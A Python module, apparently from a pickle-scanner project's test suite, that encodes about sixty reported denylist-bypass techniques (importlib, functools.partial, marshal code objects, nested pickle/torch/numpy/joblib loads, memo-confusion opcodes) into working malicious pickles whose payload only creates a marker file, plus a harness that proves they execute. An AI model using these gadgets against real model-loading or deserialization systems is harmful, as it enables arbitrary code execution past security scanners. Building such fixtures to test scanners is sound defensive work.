"""The pickle bypass classes reported against denylist scanners up to 2026, as payload programs.

Each technique is a small expression (imports, calls, BUILDs, literals) that `encode` turns into
opcode streams of several shapes: protocol 0 text, protocol 1 INST and OBJ, protocol 2 GLOBAL
(bytes as `_codecs.encode`), protocol 3 GLOBAL with BINBYTES, protocol 4 STACK_GLOBAL in a FRAME,
and protocol 5 with every import hidden in the memo first and fetched back with BINGET. A value
used twice (a module object left over from one call and used by another) is memoized and fetched,
as real exploits do. Every payload, when really unpickled, creates `MARKER` in the current
directory and nothing else.

Standard library only: `make_bypasses.py` writes the fixtures from this, the tests read it back.
"""

from __future__ import annotations

import contextlib
import marshal
import struct
from dataclasses import dataclass, field
from typing import NamedTuple

MARKER = "modellock-bypass-ran"
PROVEN_ON = (3, 11)
"""The Python the committed fixtures were written and proven with (marshal's code bytes are per version)."""
SH = f"touch {MARKER}"
PY = f"open({MARKER!r}, 'w').close()"


class G(NamedTuple):
    """An import: what find_class receives."""

    module: str
    name: str


@dataclass(eq=False)
class Call:
    """fn(*args) by REDUCE (or INST / OBJ where the encoding says so)."""

    fn: object
    args: tuple[object, ...] = ()


@dataclass(eq=False)
class New:
    """cls.__new__(cls, *args, **kwargs) by NEWOBJ / NEWOBJ_EX: no __init__ runs."""

    cls: G
    args: tuple[object, ...] = ()
    kwargs: dict[str, object] = field(default_factory=dict)


@dataclass(eq=False)
class Build:
    """obj with `state` applied by BUILD (__setstate__, or __dict__ update)."""

    obj: object
    state: object


@dataclass(eq=False)
class StackGlobal:
    """STACK_GLOBAL on operands that are computed, not literal strings (protocol 4+)."""

    module: object
    name: object


def call(module: str, name: str, *args: object) -> Call:
    return Call(G(module, name), args)


def methodcaller(method: str, *args: object, module: str = "operator") -> Call:
    return call(module, "methodcaller", method, *args)


def inner_payload() -> bytes:
    """The nested pickle the `*.loads` / `*.load` techniques unpickle: plain os.system."""
    return encode(call("os", "system", SH), "p0")


def _code_bytes() -> bytes:
    return marshal.dumps(compile(PY, "<payload>", "exec"))


@dataclass(frozen=True)
class Technique:
    name: str
    expr: object
    names: str
    """The import the refusal must name (module.attr as find_class receives it)."""
    loader_needs: str = ""
    """A library the payload itself imports (torch, numpy, joblib): proven in that environment only."""
    cannot_run: str = ""
    raw: bytes = b""
    """Hand-assembled opcodes, for tricks the expression language cannot say (memo confusion)."""
    only: tuple[str, ...] = ()
    """The encodings that keep its order of effects (p5_memo imports everything before any BUILD)."""
    """Why it cannot execute on the Python the fixtures were proven with (refusal is still asserted)."""


def techniques() -> list[Technique]:
    os_mod = call("importlib", "import_module", "os")
    spec = call("importlib.util", "find_spec", "os")
    fresh = call("importlib.util", "module_from_spec", spec)
    posix = call("importlib", "import_module", "posix")
    builtin_os = call("builtins", "__import__", "os")
    interp = call("_xxsubinterpreters", "create")
    interp13 = call("_interpreters", "create")
    inner = inner_payload()
    t = Technique
    return [
        t("importlib_import_module", Call(methodcaller("system", SH), (os_mod,)), "importlib.import_module"),
        t(
            "importlib_find_spec_exec_module",
            (
                Call(methodcaller("exec_module", fresh), (Call(call("operator", "attrgetter", "loader"), (spec,)),)),
                Call(methodcaller("system", SH), (fresh,)),
            ),
            "importlib.util.find_spec",
        ),
        t("pkgutil_resolve_name", Call(call("pkgutil", "resolve_name", "os:system"), (SH,)), "pkgutil.resolve_name"),
        t(
            "attrgetter_module_on_stack",
            Call(Call(call("operator", "attrgetter", "system"), (builtin_os,)), (SH,)),
            "operator.attrgetter",
        ),
        t(
            "attrgetter_module_from_memo",
            (
                Call(call("_operator", "attrgetter", "getcwd"), (posix,)),
                Call(Call(call("_operator", "attrgetter", "system"), (posix,)), (SH,)),
            ),
            "_operator.attrgetter",
        ),
        t(
            "attrgetter_dotted_chain",
            Call(
                Call(call("operator", "attrgetter", "os.system"), (call("importlib", "import_module", "posixpath"),)),
                (SH,),
            ),
            "operator.attrgetter",
        ),
        t(
            "methodcaller",
            Call(methodcaller("system", SH, module="_operator"), (builtin_os,)),
            "_operator.methodcaller",
        ),
        t("functools_partial", Call(call("functools", "partial", G("builtins", "exec"), PY)), "functools.partial"),
        t(
            "functools_partial_build_kwargs",
            Call(
                Build(
                    call("functools", "partial", G("subprocess", "run")),
                    (G("subprocess", "run"), (SH,), {"shell": True}, None),
                )
            ),
            "functools.partial",
        ),
        t(
            "functools_reduce_getattr",
            Call(call("functools", "reduce", G("builtins", "getattr"), ("system",), builtin_os), (SH,)),
            "functools.reduce",
        ),
        t(
            "marshal_code_function_type",
            Call(call("types", "FunctionType", call("marshal", "loads", _code_bytes()), {})),
            "marshal.loads",
        ),
        t(
            "xxsubinterpreters_run_string",
            call("_xxsubinterpreters", "run_string", interp, PY),
            "_xxsubinterpreters.create",
        ),
        t(
            "interpreters_run_string",
            call("_interpreters", "run_string", interp13, PY),
            "_interpreters.create",
            cannot_run="`_interpreters` exists from Python 3.13 on; the fixtures were proven on 3.11",
        ),
        t(
            "mailcap_findmatch",
            call("mailcap", "findmatch", {"text/plain": [{"view": "true", "test": SH}]}, "text/plain"),
            "mailcap.findmatch",
        ),
        t("ensurepip_run_pip", call("ensurepip", "_run_pip", [], f"[];{PY}#"), "ensurepip._run_pip"),
        t("pickle_loads_nested", call("pickle", "loads", inner), "pickle.loads"),
        t("pickle_private_loads_nested", call("pickle", "_loads", inner), "pickle._loads"),
        t("c_pickle_loads_nested", call("_pickle", "loads", inner), "_pickle.loads"),
        t(
            "builtins_import_getattr",
            Call(call("builtins", "getattr", builtin_os, "system"), (SH,)),
            "builtins.getattr",
        ),
        t("builtins_eval", call("builtins", "eval", PY), "builtins.eval"),
        t("builtins_exec", call("builtins", "exec", PY), "builtins.exec"),
        t(
            "builtins_compile",
            call("builtins", "exec", call("builtins", "compile", PY, "<p>", "exec")),
            "builtins.exec",
        ),
        t(
            "sys_modules_lookup",
            Call(methodcaller("system", SH), (Call(call("operator", "itemgetter", "os"), (G("sys", "modules"),)),)),
            "sys.modules",
        ),
        t(
            "code_interactive_interpreter",
            # An argument, so INST and OBJ call __init__ (with none they only call __new__).
            Call(methodcaller("runsource", PY), (call("code", "InteractiveInterpreter", None),)),
            "code.InteractiveInterpreter",
        ),
        t(
            "code_interpreter_newobj_build_dotted",
            call(
                "code",
                "InteractiveInterpreter.runcode",
                Build(New(G("code", "InteractiveInterpreter"), (), {}), {"locals": {}}),
                PY,
            ),
            "code.InteractiveInterpreter",
        ),
        t("runpy_run_code", call("runpy", "_run_code", PY, {}), "runpy._run_code"),
        t("cprofile_run", call("cProfile", "run", PY), "cProfile.run"),
        t("profile_run", call("profile", "run", PY), "profile.run"),
        t("pydoc_locate", Call(call("pydoc", "locate", "os.system"), (SH,)), "pydoc.locate"),
        t("pydoc_pipepager", call("pydoc", "pipepager", "", SH), "pydoc.pipepager"),
        t(
            "torch_load_nested",
            call("torch", "load", call("io", "BytesIO", inner), None, call("importlib", "import_module", "pickle")),
            "torch.load",
            loader_needs="torch",
        ),
        t(
            "torch_load_nested_dotted_pickle_module",
            call("torch", "load", call("_io", "BytesIO", inner), None, G("torch", "serialization.pickle")),
            "torch.load",
            loader_needs="torch",
        ),
        t(
            "torch_load_from_bytes",
            call("torch.storage", "_load_from_bytes", inner),
            "torch.storage._load_from_bytes",
            loader_needs="torch",
        ),
        t(
            "torch_hub_load",
            call("torch.hub", "load", "attacker/repo", "model"),
            "torch.hub.load",
            loader_needs="torch",
            cannot_run="fetches the attacker's hubconf.py from GitHub: no network here",
        ),
        t(
            "torch_collect_env_run",
            call("torch.utils.collect_env", "run", SH),
            "torch.utils.collect_env.run",
            loader_needs="torch",
        ),
        t(
            "numpy_load_nested_allow_pickle",
            call("numpy", "load", call("io", "BytesIO", inner), None, True),
            "numpy.load",
            loader_needs="numpy",
        ),
        t(
            "numpy_testing_runstring",
            call("numpy.testing._private.utils", "runstring", PY, {}),
            "numpy.testing._private.utils.runstring",
            loader_needs="numpy",
        ),
        t(
            "joblib_load_nested",
            call("joblib", "load", call("io", "BytesIO", inner)),
            "joblib.load",
            loader_needs="joblib",
        ),
        t(
            "asyncio_subprocess_shell",
            call("asyncio", "run", call("asyncio", "create_subprocess_shell", SH)),
            "asyncio.run",
        ),
        t("idlelib_calltip_get_entity", call("idlelib.calltip", "get_entity", PY), "idlelib.calltip.get_entity"),
        t(
            "webbrowser_get_generic_browser",
            Call(methodcaller("open", "x"), (call("webbrowser", "get", SH + " %s"),)),
            "webbrowser.get",
        ),
        t(
            "webbrowser_open",
            call("webbrowser", "open", "https://attacker.example/"),
            "webbrowser.open",
            cannot_run="no browser is installed here, so nothing is launched",
        ),
        t("timeit_setup", call("timeit", "timeit", "pass", PY, G("time", "perf_counter"), 1), "timeit.timeit"),
        t(
            "trace_runctx",
            Call(methodcaller("runctx", PY, {}, {}), (call("trace", "Trace", 0),)),
            "trace.Trace",
        ),
        t("os_system", call("os", "system", SH), "os.system"),
        t("posix_system", call("posix", "system", SH), "posix.system"),
        t("subprocess_getoutput", call("subprocess", "getoutput", SH), "subprocess.getoutput"),
        t(
            "ctypes_libc_system",
            Call(methodcaller("system", SH.encode()), (call("ctypes", "CDLL", None),)),
            "ctypes.CDLL",
        ),
        t("uuid_get_command_stdout", call("uuid", "_get_command_stdout", "touch", MARKER), "uuid._get_command_stdout"),
        t("osx_support_read_output", call("_osx_support", "_read_output", SH), "_osx_support._read_output"),
        t("imaplib_imap4_stream", call("imaplib", "IMAP4_stream", SH), "imaplib.IMAP4_stream"),
        t("io_fileio_creates_file", call("_io", "FileIO", MARKER, "w"), "_io.FileIO"),
        t(
            "distutils_write_file",
            call("distutils.file_util", "write_file", MARKER, []),
            "distutils.file_util.write_file",
        ),
        t("dotted_name_through_pathlib", call("pathlib", "os.system", SH), "pathlib.os.system"),
        t("dotted_name_through_argparse", call("argparse", "_os.system", SH), "argparse._os.system"),
        t(
            "allowed_wrapper_calls_import",
            call("torch._tensor", "_rebuild_from_type_v2", G("os", "system"), G("builtins", "object"), (SH,), None),
            "os.system",
            loader_needs="torch",
        ),
        t(
            "numpy_randomstate_ctor_calls_import",
            call("numpy.random._pickle", "__randomstate_ctor", SH, G("subprocess", "getoutput")),
            "subprocess.getoutput",
            loader_needs="numpy",
        ),
        t(
            # BUILD sets attributes on an imported function; dotted GLOBALs read them back as the
            # operands of a STACK_GLOBAL, so no literal "os" ever meets a STACK_GLOBAL.
            "build_setattr_then_dotted_global_operands",
            (
                Build(G("numpy", "prod"), (None, {"a": "os", "b": "system"})),
                Call(StackGlobal(G("numpy", "prod.a"), G("numpy", "prod.b")), (SH,)),
            ),
            "numpy.prod.a",
            loader_needs="numpy",
            only=("p4",),
        ),
        t("memo_memoize_confusion", None, "os.system", raw=_memo_confusion()),
        t("memo_overwritten", None, "os.system", raw=_memo_overwritten()),
        t("exception_after_the_call", None, "os.system", raw=_exception_after_call()),
    ]


def _u(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def _memo_confusion() -> bytes:
    """BINPUT 0/1 hold "os"/"system"; MEMOIZE then stores the allowlisted names at 2 and 3 (it uses
    len(memo), not a counter of its own), and BINGET 0/1 feed STACK_GLOBAL os.system."""
    out = b"\x80\x04" + _u("os") + b"q\x000" + _u("system") + b"q\x010"
    out += _u("torch._utils") + b"\x940" + _u("_rebuild_tensor_v2") + b"\x940"
    return out + b"h\x00h\x01\x93" + _u(SH) + b"\x85R."


def _memo_overwritten() -> bytes:
    """Memo 0/1 first hold an allowlisted pair, then are overwritten with os/system before use."""
    out = b"\x80\x04" + _u("torch._utils") + b"q\x000" + _u("_rebuild_tensor_v2") + b"q\x010"
    out += _u("os") + b"q\x000" + _u("system") + b"q\x010"
    return out + b"h\x00h\x01\x93" + _u(SH) + b"\x85R."


def _exception_after_call() -> bytes:
    """The payload runs, then a BINGET of a memo key never set makes every unpickler raise."""
    return b"\x80\x02cos\nsystem\n" + b"X" + struct.pack("<I", len(SH)) + SH.encode() + b"\x85Rh\x63."


# -- encoding --------------------------------------------------------------------------------------

ENCODINGS = ("p0", "p1_inst", "p1_obj", "p2", "p3", "p4", "p5_memo", "raw")


def payloads(technique: Technique) -> dict[str, bytes]:
    """Every shape the technique can be written in, by encoding name."""
    if technique.raw:
        return {"raw": technique.raw}
    out = {}
    for style in technique.only or ENCODINGS[:-1]:
        try:
            out[style] = encode(technique.expr, style)
        except Unsupported:
            continue
    return out


class Unsupported(Exception):
    """The expression needs an opcode the encoding's protocol does not have."""


def _walk_nodes(expr: object, out: list[object]) -> None:
    out.append(expr)
    if isinstance(expr, G):
        return
    if isinstance(expr, Call):
        _walk_nodes(expr.fn, out)
        for a in expr.args:
            _walk_nodes(a, out)
    elif isinstance(expr, New):
        _walk_nodes(expr.cls, out)
        for a in expr.args:
            _walk_nodes(a, out)
        for v in expr.kwargs.values():
            _walk_nodes(v, out)
    elif isinstance(expr, Build):
        _walk_nodes(expr.obj, out)
        _walk_nodes(expr.state, out)
    elif isinstance(expr, StackGlobal):
        _walk_nodes(expr.module, out)
        _walk_nodes(expr.name, out)
    elif isinstance(expr, (tuple, list)):
        for a in expr:
            _walk_nodes(a, out)
    elif isinstance(expr, dict):
        for k, v in expr.items():
            _walk_nodes(k, out)
            _walk_nodes(v, out)


def needs_protocol(expr: object) -> int:
    nodes: list[object] = []
    _walk_nodes(expr, nodes)
    need = 0
    for node in nodes:
        if isinstance(node, G) and "." in node.name:
            need = max(need, 4)  # find_class resolves dotted names from protocol 4 on
        if isinstance(node, New):
            need = max(need, 4 if node.kwargs else 2)
        if isinstance(node, StackGlobal):
            need = max(need, 4)
    return need


class _Encoder:
    def __init__(self, style: str) -> None:
        self.style = style
        self.proto = {"p0": 0, "p1_inst": 1, "p1_obj": 1, "p2": 2, "p3": 3, "p4": 4, "p5_memo": 5}[style]
        self.out = bytearray()
        self.memo: dict[int, int] = {}
        self.globals: dict[G, int] = {}
        self.strings: dict[str, int] = {}
        self.counts: dict[int, int] = {}

    # memo
    def put(self) -> int:
        index = len(self.memo) + len(self.globals) + len(self.strings)
        if self.proto >= 4:
            self.out += b"\x94"
        elif self.proto >= 1:
            self.out += b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)
        else:
            self.out += b"p%d\n" % index
        return index

    def get(self, index: int) -> None:
        if self.proto >= 1:
            self.out += b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)
        else:
            self.out += b"g%d\n" % index

    # literals
    def string(self, text: str) -> None:
        if self.style == "p5_memo" and text in self.strings:
            self.get(self.strings[text])
            return
        raw = text.encode("utf-8", "surrogatepass")
        if self.proto == 0:
            escaped = (
                text.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a").replace("\r", "\\u000d")
            )
            self.out += b"V" + escaped.encode("raw-unicode-escape") + b"\n"
        elif self.proto >= 4 and len(raw) < 256:
            self.out += b"\x8c" + bytes([len(raw)]) + raw
        else:
            self.out += b"X" + struct.pack("<I", len(raw)) + raw

    def bytes_(self, data: bytes) -> None:
        if self.proto >= 3:
            self.out += (b"C" + bytes([len(data)]) if len(data) < 256 else b"B" + struct.pack("<I", len(data))) + data
            return
        # What CPython's pickler writes for bytes below protocol 3: _codecs.encode(latin-1 text).
        self.expr(call("_codecs", "encode", data.decode("latin-1"), "latin1"))

    def global_(self, g: G) -> None:
        if g in self.globals:
            self.get(self.globals[g])
            return
        if self.proto >= 4:
            self.string(g.module)
            self.string(g.name)
            self.out += b"\x93"
        else:
            self.out += b"c" + g.module.encode() + b"\n" + g.name.encode() + b"\n"
        if self.style == "p5_memo" or self.counts.get(id(g), 0) > 1:
            self.globals[g] = self.put()

    def tuple_(self, items: tuple[object, ...] | list[object], close: bytes = b"t") -> None:
        if close == b"t" and self.proto >= 2 and 0 < len(items) <= 3:
            for item in items:
                self.expr(item)
            self.out += bytes([0x84 + len(items)])
            return
        if close == b"t" and not items and self.proto >= 1:
            self.out += b")"
            return
        self.out += b"("
        for item in items:
            self.expr(item)
        self.out += close

    def expr(self, e: object) -> None:
        key = id(e)
        if key in self.memo:
            self.get(self.memo[key])
            return
        if isinstance(e, G):
            self.global_(e)
            return
        if e is None:
            self.out += b"N"
        elif e is True or e is False:
            self.out += (b"\x88" if e else b"\x89") if self.proto >= 2 else (b"I01\n" if e else b"I00\n")
        elif isinstance(e, int):
            self.out += b"I%d\n" % e
        elif isinstance(e, str):
            self.string(e)
        elif isinstance(e, bytes):
            self.bytes_(e)
        elif isinstance(e, tuple):
            self.tuple_(e)
        elif isinstance(e, list) and self.proto == 0:
            self.tuple_(e, b"l")  # LIST: a list of the marked items
        elif isinstance(e, list):
            self.out += b"]"
            if e:
                self.tuple_(e, b"e")  # APPENDS
        elif isinstance(e, dict) and self.proto == 0:
            self.tuple_([x for kv in e.items() for x in kv], b"d")  # DICT: pairs of the marked items
        elif isinstance(e, dict):
            self.out += b"}"
            if e:
                self.tuple_([x for kv in e.items() for x in kv], b"u")  # SETITEMS
        elif isinstance(e, Call):
            self.call(e)
        elif isinstance(e, New):
            self.expr(e.cls)
            if self.proto >= 4 and (e.kwargs or self.style == "p5_memo"):
                self.tuple_(e.args)
                self.expr(dict(e.kwargs))
                self.out += b"\x92"
            elif self.proto >= 2 and not e.kwargs:
                self.tuple_(e.args)
                self.out += b"\x81"
            else:
                raise Unsupported("NEWOBJ needs protocol 2, NEWOBJ_EX protocol 4")
        elif isinstance(e, Build):
            self.expr(e.obj)
            self.expr(e.state)
            self.out += b"b"
        elif isinstance(e, StackGlobal):
            self.expr(e.module)
            self.expr(e.name)
            self.out += b"\x93"
        else:
            raise TypeError(e)
        if self.counts.get(key, 0) > 1:
            self.memo[key] = self.put()

    def call(self, c: Call) -> None:
        fn = c.fn
        if self.style == "p1_inst" and isinstance(fn, G) and fn not in self.globals:
            self.out += b"("
            for item in c.args:
                self.expr(item)
            self.out += b"i" + fn.module.encode() + b"\n" + fn.name.encode() + b"\n"
            return
        if self.style == "p1_obj":
            self.out += b"("
            self.expr(fn)
            for item in c.args:
                self.expr(item)
            self.out += b"o"
            return
        self.expr(fn)
        self.tuple_(c.args)
        self.out += b"R"

    def prelude(self, root: object) -> None:
        """p5_memo: every module/name string and every import memoized up front, then dropped."""
        nodes: list[object] = []
        _walk_nodes(root, nodes)
        for node in nodes:
            if isinstance(node, G) and node not in self.globals:
                for text in node:
                    if text not in self.strings:
                        self.string(text)
                        self.strings[text] = self.put()
                        self.out += b"0"
                self.global_(node)
                self.out += b"0"


def encode(expr: object, style: str) -> bytes:
    enc = _Encoder(style)
    if needs_protocol(expr) > enc.proto:
        raise Unsupported(f"needs protocol {needs_protocol(expr)}")
    nodes: list[object] = []
    _walk_nodes(expr, nodes)
    for node in nodes:
        enc.counts[id(node)] = enc.counts.get(id(node), 0) + 1
    if enc.proto >= 4:
        if style == "p5_memo":
            enc.prelude(expr)
        enc.expr(expr)
        enc.out += b"."
        body = bytes(enc.out)
        return bytes([0x80, enc.proto]) + b"\x95" + struct.pack("<Q", len(body)) + body
    enc.expr(expr)
    enc.out += b"."
    return (bytes([0x80, enc.proto]) if enc.proto >= 2 else b"") + bytes(enc.out)


# -- proving that a payload runs ---------------------------------------------------------------------

LOADERS = {
    "pickle": "pickle.load(open(path, 'rb'))",
    "torch": "torch.load(path, weights_only=False)",
    "joblib": "joblib.load(path)",
    "numpy": "numpy.load(path, allow_pickle=True)['arr_0']",
}


def prove(jobs: list[tuple[str, str]], timeout: float = 120.0, preload: tuple[str, ...] = ()) -> dict[str, bool]:
    """Load each (absolute path, loader) with the real loader, each in its own forked child
    started in an empty directory; True where the payload created MARKER there."""
    import json
    import subprocess
    import sys

    if not jobs:
        return {}
    run = subprocess.run(
        [sys.executable, __file__, "--prove", str(timeout), *preload],
        input=json.dumps(jobs),
        capture_output=True,
        text=True,
        timeout=timeout * len(jobs) + 120,
        check=True,
    )
    return dict(json.loads(run.stdout))


def _prove_main(timeout: float, preload: list[str]) -> None:
    """Runs in a throwaway process: import the loaders once, then fork once per payload."""
    import importlib
    import json
    import os
    import shutil
    import signal
    import sys
    import tempfile
    import time

    jobs = json.loads(sys.stdin.read())
    for loader in ({loader for _, loader in jobs} | set(preload)) - {"pickle"}:
        importlib.import_module(loader)  # before forking, so each child starts with it loaded
    namespace = {name: sys.modules.get(name) for name in ("pickle", "torch", "joblib", "numpy")}
    namespace["pickle"] = importlib.import_module("pickle")
    results = []
    for path, loader in jobs:
        work = tempfile.mkdtemp(prefix="bypass-proof-")
        pid = os.fork()
        if pid == 0:
            os.setpgid(0, 0)
            os.chdir(work)
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            with contextlib.suppress(BaseException):
                eval(LOADERS[loader], {**namespace, "path": path})
            os._exit(0)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and os.waitpid(pid, os.WNOHANG) == (0, 0):
            time.sleep(0.01)
        ran = False
        settle = time.monotonic() + 5  # payloads that spawn a shell may finish after the loader returns
        while not ran and time.monotonic() < settle:
            ran = os.path.exists(os.path.join(work, MARKER))
            time.sleep(0.02)
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(pid, signal.SIGKILL)
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0)
        shutil.rmtree(work, ignore_errors=True)
        results.append((path, ran))
    sys.stdout.write(json.dumps(results))


if __name__ == "__main__":
    import sys

    if sys.argv[1:2] == ["--prove"]:
        _prove_main(float(sys.argv[2]), sys.argv[3:])
